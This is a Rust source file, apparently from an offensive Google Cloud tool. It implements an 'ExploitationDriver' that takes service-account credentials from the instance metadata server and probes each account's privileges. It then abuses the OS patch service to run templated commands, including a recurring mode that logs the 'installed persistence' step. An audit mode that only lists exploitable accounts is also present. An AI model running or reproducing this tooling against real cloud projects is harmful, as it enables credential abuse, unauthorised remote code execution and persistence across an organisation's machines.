use std::future::Future;

use chrono::Utc;
use tokio_util::sync::CancellationToken;
use tracing::{error, info};
use uuid::Uuid;

use super::credentials::{CredentialSource, StaticCredential};
use super::executor::execute_request;
use super::prober::PrivilegeProber;
use super::state::{AuditScope, DriverState, StateTracker};
use super::templater::{RequestTemplater, TemplateValues};
use crate::config::EngineConfig;
use crate::errors::PatchyError;
use crate::gcp::GcpServices;
use crate::models::finding::PermissionFinding;
use crate::models::identity::ProjectContext;
use crate::models::patch::{ExecutionMode, ExecutionRequest};
use crate::models::report::{ProbeMode, RunOutcome, RunReport};

#[derive(Debug, Clone, Default)]
pub struct DriverOptions {
    pub probe_mode: ProbeMode,
    pub audit_scope: AuditScope,
    /// Skip the metadata project lookup.
    pub project_override: Option<String>,
}

/// Runs one discovery and exploitation pass.
pub struct ExploitationDriver {
    config: EngineConfig,
    services: GcpServices,
    cancel_token: CancellationToken,
}

impl ExploitationDriver {
    pub fn new(config: EngineConfig, services: GcpServices) -> Result<Self, PatchyError> {
        config.validate()?;
        Ok(Self {
            config,
            services,
            cancel_token: CancellationToken::new(),
        })
    }

    /// Share a cancellation token with the caller (e.g. a Ctrl-C handler).
    pub fn with_cancel_token(mut self, token: CancellationToken) -> Self {
        self.cancel_token = token;
        self
    }

    pub fn execution_mode(&self) -> ExecutionMode {
        ExecutionMode::from_persistence(self.config.persistence)
    }

    /// Enumerate the instance's service accounts and probe each in listing order.
    pub async fn run(&self, options: &DriverOptions) -> Result<RunReport, PatchyError> {
        let started_at = Utc::now();
        let mut state = StateTracker::new();

        state.transition(DriverState::ResolveProjectContext)?;
        let project = self.guarded(self.resolve_project(options.project_override.as_deref(), None)).await?;
        info!(project = %project.project_id, mode = %options.probe_mode, "Resolved project context");

        let request = match options.probe_mode {
            ProbeMode::Exploit => {
                state.transition(DriverState::RenderRequest)?;
                Some(self.guarded(self.render()).await?)
            }
            ProbeMode::Audit => None,
        };

        state.transition(DriverState::EnumerateIdentities)?;
        let source = CredentialSource::new(self.services.metadata.clone());
        let identities = self.guarded(source.enumerate()).await?;

        let prober = PrivilegeProber::new(
            self.services.policy_search.clone(),
            self.services.roles.clone(),
            self.services.patch.clone(),
            project.clone(),
        );

        let mut probed: Vec<String> = Vec::new();
        let mut findings: Vec<PermissionFinding> = Vec::new();
        let mut exploited: Option<String> = None;

        for identity in &identities {
            state.transition(DriverState::PerIdentityProbe)?;
            info!(account = %identity.email, "Trying service account");
            probed.push(identity.email.clone());

            match (&request, options.probe_mode) {
                (Some(request), ProbeMode::Exploit) => {
                    let success = self
                        .guarded(prober.attempt(identity, request, &self.config.patch_name))
                        .await?;
                    if success {
                        info!(account = %identity.email, "Successfully performed OS patching using account");
                        exploited = Some(identity.email.clone());
                        break;
                    }
                }
                _ => {
                    let found = self.guarded(prober.audit(identity)).await?;
                    findings.extend(found);
                    if options.audit_scope == AuditScope::FirstHit && !findings.is_empty() {
                        break;
                    }
                }
            }
        }

        let outcome = if exploited.is_some() || !findings.is_empty() {
            RunOutcome::Success
        } else {
            RunOutcome::NoneFound
        };
        state.transition(DriverState::Done(outcome))?;

        let report = RunReport {
            run_id: Uuid::new_v4(),
            project: project.project_id,
            probe_mode: options.probe_mode,
            execution_mode: self.execution_mode(),
            outcome,
            exploited_identity: exploited,
            findings,
            identities_probed: probed,
            started_at,
            finished_at: Utc::now(),
        };

        match outcome {
            RunOutcome::Success if report.probe_mode == ProbeMode::Audit => {
                info!(count = report.exploitable_identities().len(), "Found exploitable service accounts");
            }
            RunOutcome::Success => {}
            RunOutcome::NoneFound => {
                info!("No valid service accounts or accounts are under privileged");
            }
        }
        Ok(report)
    }

    /// Execute the request as a single supplied account. Every failure is fatal.
    pub async fn run_with_credential(
        &self,
        credential: StaticCredential,
        project_override: Option<&str>,
    ) -> Result<RunReport, PatchyError> {
        let started_at = Utc::now();
        let project = self
            .guarded(self.resolve_project(project_override, credential.project_id.as_deref()))
            .await?;
        let request = self.guarded(self.render()).await?;
        let identity = credential.identity;

        let result = self
            .guarded(execute_request(
                self.services.patch.as_ref(),
                identity.credential.as_ref(),
                &project,
                &request,
                &self.config.patch_name,
            ))
            .await;
        if let Err(e) = result {
            error!(account = %identity.email, error = %e, "Patch request failed");
            return Err(e);
        }

        match request.mode() {
            ExecutionMode::Recurring => {
                info!(account = %identity.email, "Successfully installed persistence using account")
            }
            ExecutionMode::OneShot => {
                info!(account = %identity.email, "Successfully performed OS patching using account")
            }
        }

        Ok(RunReport {
            run_id: Uuid::new_v4(),
            project: project.project_id,
            probe_mode: ProbeMode::Exploit,
            execution_mode: request.mode(),
            outcome: RunOutcome::Success,
            exploited_identity: Some(identity.email.clone()),
            findings: Vec::new(),
            identities_probed: vec![identity.email],
            started_at,
            finished_at: Utc::now(),
        })
    }

    /// Explicit override, then a key file's project, then the metadata server.
    async fn resolve_project(
        &self,
        project_override: Option<&str>,
        key_project: Option<&str>,
    ) -> Result<ProjectContext, PatchyError> {
        if let Some(project) = project_override.or(key_project).filter(|p| !p.trim().is_empty()) {
            return Ok(ProjectContext::new(project.trim()));
        }
        match self.services.metadata.project_id().await {
            Ok(id) => Ok(ProjectContext::new(id)),
            Err(e) => Err(PatchyError::NotInCloudEnvironment(e.to_string())),
        }
    }

    async fn render(&self) -> Result<ExecutionRequest, PatchyError> {
        let templater = RequestTemplater::new(
            TemplateValues::from(&self.config),
            self.services.storage.clone(),
        );
        templater.render(self.execution_mode()).await
    }

    /// Await `fut` unless the run is cancelled first.
    async fn guarded<T>(
        &self,
        fut: impl Future<Output = Result<T, PatchyError>>,
    ) -> Result<T, PatchyError> {
        tokio::select! {
            biased;
            _ = self.cancel_token.cancelled() => Err(PatchyError::Cancelled),
            result = fut => result,
        }
    }
}
